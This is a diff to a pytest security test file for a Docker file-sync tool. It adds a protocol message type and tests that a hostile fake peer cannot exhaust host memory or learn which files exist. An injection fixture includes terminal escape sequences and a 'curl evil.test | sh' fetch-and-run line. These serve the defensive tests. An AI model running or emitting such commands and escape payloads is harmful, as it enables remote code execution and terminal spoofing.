@@ -484,7 +484,7 @@ def end():  # when its host has gone, which Docker does not tell it: it would fi
     gone.poll()
     os._exit(0)
 threading.Thread(target=end, daemon=True).start()
-LISTING, STATS, RESUME, DONE, FAILED, KEPT, REMOTE, FILE, PONG, ERROR = range(0xC2, 0xCC)
+LISTING, STATS, RESUME, DONE, FAILED, KEPT, REMOTE, FILE, PONG, ERROR, SUMMARY = range(0xC2, 0xCD)
 DATA, END, DELETE, LIST, GET = 0x85, 0x86, 0x8B, 0x8D, 0x8E
 def read(count):
     data = b""
@@ -501,12 +501,16 @@ def say(kind, head=None, body=b"", text=None):
     data = struct.pack("!BII", kind, len(text), len(body)) + text + body
     while data: data = data[os.write(1, data):]
 def listing(*entries, end=True): say(LISTING, {"entries": list(entries), "end": end})
+def shown(*entries):
+    say(SUMMARY, {"entries": [["pkg", "0" * 64]], "end": True})
+    take()
+    listing(*entries)
 def file(path, size, mode=0o644): return [path, "f", mode, size, "", "1"]
 def send(path, data, mode=0o644):
     say(FILE, {"path": path, "size": len(data), "mode": mode, "mtime_ns": 1})
     if data: say(DATA, {}, data)
     say(END, {"digest": hashlib.sha256(data).hexdigest()})
-ready = {"version": 2, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True}
+ready = {"version": 3, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True}
 read(int(read(8)))
 take()
 """
@@ -593,14 +597,27 @@ def test_a_listing_without_an_end_is_ended(root: Path, liar: Callable[[str], Box
     box = liar(f"""\
         say(0xC1, ready)
         if os.path.exists("/loot/pull"): listing(); take()
+        if os.path.exists("/loot/once"): say(SUMMARY, {{"entries": [["pkg", "0" * 64]], "end": True}}); take()
         {endless}
         """)
     for words in [("--once",), ("--verify",), ("--pull", "out")]:
-        if words[0] == "--pull":
-            box.sh("touch /loot/pull")
+        box.sh(f"rm -f /loot/*; touch /loot/{words[0].removeprefix('--')}")
         done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", *words)
         refused_in_one_line(done)
         assert peak < 500e6
+
+
+@pytest.mark.attack(17)
+def test_a_summary_without_an_end_is_ended(root: Path, liar: Callable[[str], Box]) -> None:
+    """Sums up folders without an end: it is ended after 200,000, and the host's memory stays small."""
+    box = liar("""\
+        say(0xC1, ready)
+        while True: say(SUMMARY, {"entries": [[os.urandom(30).hex(), "0" * 64] for _ in range(2000)], "end": False})
+        """)
+    done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", "--once")
+    refused_in_one_line(done)
+    assert "lists more than" in done.stderr
+    assert peak < 500e6
 
 
 @pytest.mark.attack(17)
@@ -748,7 +765,7 @@ def test_a_receiver_learns_nothing_of_files_outside(
     """Claims that sync has put `../key` there: whether the host asks to delete it would tell if it exists. The host says nothing."""
     box = liar(f"""\
         say(0xC1, ready)
-        listing(file("{path}", 1))
+        shown(file("{path}", 1))
         while True:
             kind, head, _ = take()
             with open("/loot/heard", "a") as heard: print(kind, json.dumps(head), file=heard)
@@ -785,10 +802,10 @@ ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
         f'os.write(2, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
         f'os.write(1, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
         f'ready.update(user="{ESCAPE}", root="/{ESCAPE}", python="{ESCAPE}"); say(0xC1, ready); say(ERROR, {{"reason": "{ESCAPE}"}})',
-        ('say(0xC1, ready); listing(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
+        ('say(0xC1, ready); shown(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
         '{"id": 1, "path": ESCAPE, "reason": ESCAPE, "hint": ESCAPE}); say(ERROR, {"reason": ESCAPE})'),
         'say(0xC1, text=b"[" * 100000)',
-        'say(0xC1, text=b\'{"version": 2, "root": \' + b"[" * 100000)',
+        'say(0xC1, text=b\'{"version": 3, "root": \' + b"[" * 100000)',
         'say(0xC1, text=b\'{"version": \' + b"9" * 100000 + b"}")',
     ],
     ids=["error", "stderr", "banner", "ready", "failed", "deep", "deeper", "number"],
